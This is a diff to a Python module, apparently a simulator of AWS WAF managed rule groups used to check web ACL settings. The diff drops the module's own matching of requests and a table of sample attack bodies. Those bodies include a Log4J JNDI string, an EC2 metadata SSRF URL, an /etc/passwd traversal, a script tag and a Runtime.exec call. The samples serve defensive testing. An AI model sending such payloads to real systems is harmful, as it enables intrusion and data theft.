@@ -8,125 +8,62 @@ from __future__ import annotations
 
 import re
 from collections import Counter
-from collections.abc import Callable, Mapping, Sequence
-from dataclasses import dataclass, field
+from collections.abc import Mapping, Sequence
+from dataclasses import dataclass
 from typing import Any, Final
-
-INSPECTED: Final = 8 * 1024  # bytes of a body that AWS WAF inspects behind an Application Load Balancer
-_XSS, _LFI, _RFI, _METADATA = "<script", "../../", r"(https?|ftps?|file)://\d+\.\d+\.\d+\.\d+", "169.254.169.254"
-_JAVA, _LOG4J, _REACT = "java.lang.Runtime", "${jndi:", '"$1:__proto__'
 
 
 @dataclass(frozen=True)
 class Request:
-    """A request of a client."""
+    """A request of a client, with the managed rules that it matches: AWS does not publish their patterns."""
 
     path: str
     query: str = ""
-    method: str = "GET"
-    headers: Mapping[str, str] = field(default_factory=lambda: {"user-agent": "Mozilla/5.0", "host": "a.example.com"})
-    body: bytes = b""
+    matches: tuple[str, ...] = ()
     address: str = "203.0.113.7"
 
-    @property
-    def inspected(self) -> str:
-        """The part of the body that AWS WAF inspects."""
-        return self.body[:INSPECTED].decode("latin-1")
 
-    def header(self, name: str) -> str:
-        return self.headers.get(name, "")
+@dataclass(frozen=True)
+class Group:
+    """A rule group of AWS: a part of its labels, its capacity units and its rules."""
 
-
-def _in(get: Callable[[Request], str], text: str) -> Callable[[Request], bool]:
-    return lambda request: text in get(request)
+    label: str
+    capacity: int
+    rules: tuple[str, ...]
 
 
-def _like(get: Callable[[Request], str], pattern: str) -> Callable[[Request], bool]:
-    return lambda request: re.search(pattern, get(request)) is not None
-
-
-def _body(request: Request) -> str:
-    return request.inspected
-
-
-def _query(request: Request) -> str:
-    return request.query
-
-
-def _path(request: Request) -> str:
-    return request.path
-
-
-def _cookie(request: Request) -> str:
-    return request.header("cookie")
-
-
-def _headers(request: Request) -> str:
-    return " ".join(f"{name} {value}" for name, value in request.headers.items())
-
-
-# The rules of each group: name -> whether a request matches, by AWS's examples. The real patterns are not published.
-Rules = Mapping[str, Callable[[Request], bool]]
-_EXTENSION: Final = r"\.(log|ini)\b"
-GROUPS: Final[Mapping[str, tuple[str, int, Rules]]] = {
-    "AWSManagedRulesCommonRuleSet": (
+GROUPS: Final[Mapping[str, Group]] = {
+    "AWSManagedRulesCommonRuleSet": Group(
         "core-rule-set",
         700,
-        {
-            "NoUserAgent_HEADER": lambda request: not request.header("user-agent"),
-            "UserAgent_BadBots_HEADER": lambda request: request.header("user-agent") in ("nessus", "nmap"),
-            "SizeRestrictions_QUERYSTRING": lambda request: len(request.query) > 2048,
-            "SizeRestrictions_Cookie_HEADER": lambda request: len(_cookie(request)) > 10_240,
-            "SizeRestrictions_BODY": lambda request: len(request.body) > INSPECTED,
-            "SizeRestrictions_URIPATH": lambda request: len(request.path) > 1024,
-            "EC2MetaDataSSRF_BODY": _in(_body, _METADATA),
-            "EC2MetaDataSSRF_COOKIE": _in(_cookie, _METADATA),
-            "EC2MetaDataSSRF_URIPATH": _in(_path, _METADATA),
-            "EC2MetaDataSSRF_QUERYARGUMENTS": _in(_query, _METADATA),
-            "GenericLFI_QUERYARGUMENTS": _in(_query, _LFI),
-            "GenericLFI_URIPATH": _in(_path, _LFI),
-            "GenericLFI_BODY": _in(_body, _LFI),
-            "RestrictedExtensions_URIPATH": _like(_path, _EXTENSION),
-            "RestrictedExtensions_QUERYARGUMENTS": _like(_query, _EXTENSION),
-            "GenericRFI_QUERYARGUMENTS": _like(_query, _RFI),
-            "GenericRFI_BODY": _like(_body, _RFI),
-            "GenericRFI_URIPATH": _like(_path, _RFI),
-            "CrossSiteScripting_COOKIE": _in(_cookie, _XSS),
-            "CrossSiteScripting_QUERYARGUMENTS": _in(_query, _XSS),
-            "CrossSiteScripting_BODY": _in(_body, _XSS),
-            "CrossSiteScripting_URIPATH": _in(_path, _XSS),
-        },
+        (
+            "NoUserAgent_HEADER",
+            "UserAgent_BadBots_HEADER",
+            "SizeRestrictions_QUERYSTRING",
+            "SizeRestrictions_Cookie_HEADER",
+            "SizeRestrictions_BODY",
+            "SizeRestrictions_URIPATH",
+            *(f"EC2MetaDataSSRF_{part}" for part in ("BODY", "COOKIE", "URIPATH", "QUERYARGUMENTS")),
+            *(f"GenericLFI_{part}" for part in ("QUERYARGUMENTS", "URIPATH", "BODY")),
+            *(f"RestrictedExtensions_{part}" for part in ("URIPATH", "QUERYARGUMENTS")),
+            *(f"GenericRFI_{part}" for part in ("QUERYARGUMENTS", "BODY", "URIPATH")),
+            *(f"CrossSiteScripting_{part}" for part in ("COOKIE", "QUERYARGUMENTS", "BODY", "URIPATH")),
+        ),
     ),
-    "AWSManagedRulesKnownBadInputsRuleSet": (
+    "AWSManagedRulesKnownBadInputsRuleSet": Group(
         "known-bad-inputs",
         200,
-        {
-            "JavaDeserializationRCE_HEADER": _in(_headers, _JAVA),
-            "JavaDeserializationRCE_BODY": _in(_body, _JAVA),
-            "JavaDeserializationRCE_URIPATH": _in(_path, _JAVA),
-            "JavaDeserializationRCE_QUERYSTRING": _in(_query, _JAVA),
-            "Host_localhost_HEADER": lambda request: "localhost" in request.header("host"),
-            "PROPFIND_METHOD": lambda request: request.method == "PROPFIND",
-            "ExploitablePaths_URIPATH": lambda request: "web-inf" in request.path.lower(),
-            "Log4JRCE_HEADER": _in(_headers, _LOG4J),
-            "Log4JRCE_QUERYSTRING": _in(_query, _LOG4J),
-            "Log4JRCE_BODY": _in(_body, _LOG4J),
-            "Log4JRCE_URIPATH": _in(_path, _LOG4J),
-            "ReactJSRCE_BODY": _in(_body, _REACT),
-        },
+        (
+            *(f"JavaDeserializationRCE_{part}" for part in ("HEADER", "BODY", "URIPATH", "QUERYSTRING")),
+            "Host_localhost_HEADER",
+            "PROPFIND_METHOD",
+            "ExploitablePaths_URIPATH",
+            *(f"Log4JRCE_{part}" for part in ("HEADER", "QUERYSTRING", "BODY", "URIPATH")),
+            "ReactJSRCE_BODY",
+        ),
     ),
 }
-# An attack in a body, by the rule that matches it.
-ATTACKS: Final[Mapping[str, bytes]] = {
-    "SizeRestrictions_BODY": b"a" * (INSPECTED + 1),
-    "EC2MetaDataSSRF_BODY": b"url=http%3A//169.254.169.254/latest",
-    "GenericLFI_BODY": b"file=../../etc/passwd",
-    "GenericRFI_BODY": b"url=http://198.51.100.1/a.php",
-    "CrossSiteScripting_BODY": b"<script>alert('hello')</script>",
-    "JavaDeserializationRCE_BODY": b"(java.lang.Runtime).getRuntime().exec('whoami')",
-    "Log4JRCE_BODY": b"${jndi:ldap://example.com/}",
-    "ReactJSRCE_BODY": b'{"then": "$1:__proto__:then"}',
-}
+ABOUT_BODIES: Final = tuple(rule for group in GROUPS.values() for rule in group.rules if rule.endswith("_BODY"))
 
 
 class Evaluator:
@@ -185,15 +122,15 @@ class Evaluator:
 def _managed(content: Mapping[str, Any], request: Request, labels: set[str]) -> bool:
     """Returns whether a rule group of AWS blocks the request, and adds its labels."""
     assert content["vendorName"] == "AWS"
-    namespace, _, rules = GROUPS[content["name"]]
+    group = GROUPS[content["name"]]
     counted = {one["name"] for one in content["ruleActionOverrides"] if one["actionToUse"] == {"count": {}}}
     # AWS WAF ignores an override of an unknown rule silently.
-    assert counted <= rules.keys()
+    assert counted <= set(group.rules)
     assert len(counted) == len(content["ruleActionOverrides"])
-    for name, matches in rules.items():
-        if matches(request):
-            labels.add(f"awswaf:managed:aws:{namespace}:{name.replace('_BODY', '_Body')}")
-            if name not in counted:
+    for rule in group.rules:
+        if rule in request.matches:
+            labels.add(f"awswaf:managed:aws:{group.label}:{rule.replace('_BODY', '_Body')}")
+            if rule not in counted:
                 return True
     return False
 
@@ -217,6 +154,6 @@ def _capacity(statement: Mapping[str, Any]) -> int:
         case "rateBasedStatement":
             return 2 + (_capacity(content["scopeDownStatement"]) if "scopeDownStatement" in content else 0)
         case "managedRuleGroupStatement":
-            return GROUPS[content["name"]][1]
+            return GROUPS[content["name"]].capacity
         case _:
             raise NotImplementedError(kind)
